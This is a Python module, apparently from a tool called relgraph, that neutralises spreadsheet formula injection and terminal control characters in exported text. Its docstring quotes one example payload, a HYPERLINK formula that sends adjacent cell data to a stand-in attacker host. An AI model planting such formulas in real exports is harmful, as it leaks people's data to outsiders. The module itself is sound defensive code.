"""Text that leaves relgraph for a spreadsheet or a terminal, made safe to open there.

Names, notes and categories are written by anyone with write access (or by an import),
and reports are opened by people who trust them:

- **Spreadsheets** run a cell that starts with `=`, `+`, `-` or `@` as a formula (and some
  treat a leading TAB or CR, or the full-width forms of those signs, the same way), so a
  stakeholder named `=HYPERLINK("http://evil.example/?x="&A1,"click")` could send the
  neighbouring revenue cells away. OWASP's remedy: put a single quote in front, which
  every spreadsheet shows as text. Only text is touched; numbers stay numbers.
- **Terminals** obey control characters: an ESC sequence in a name can retitle the
  window, rewrite what was printed or worse. Table output shows them as visible escapes.

Exports are meant to be imported again, so their escape must be undone exactly:
`escape_cell` also quotes a text that already starts with a quote, and `unescape_cell`
removes exactly one leading quote.
"""

from __future__ import annotations

import re

#: First characters that make a spreadsheet read a cell as a formula: = + - @ TAB CR,
#: and the full-width = + - @ that some spreadsheets fold into the ASCII ones.
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"

#: C0 controls, DEL and C1 controls: what a terminal may act on.
_CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f]")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could take `text` for a formula."""
    return bool(text) and text[0] in FORMULA_STARTS


def neutralise(text: str) -> str:
    """`text`, with a leading quote when a spreadsheet could take it for a formula."""
    return QUOTE + text if text and text[0] in FORMULA_STARTS else text


def escape_cell(text: str) -> str:
    """Like `neutralise`, reversibly: a text starting with a quote gets one more."""
    return QUOTE + text if text and (text[0] in FORMULA_STARTS or text[0] == QUOTE) else text


def unescape_cell(text: str) -> str:
    """The text `escape_cell` was given: one leading quote removed."""
    return text[1:] if text.startswith(QUOTE) else text


def printable(text: str) -> str:
    """`text` with every control character shown as a visible escape (`\\x1b`)."""
    if not _CONTROLS.search(text):
        return text
    return _CONTROLS.sub(lambda match: f"\\x{ord(match.group()):02x}", text)
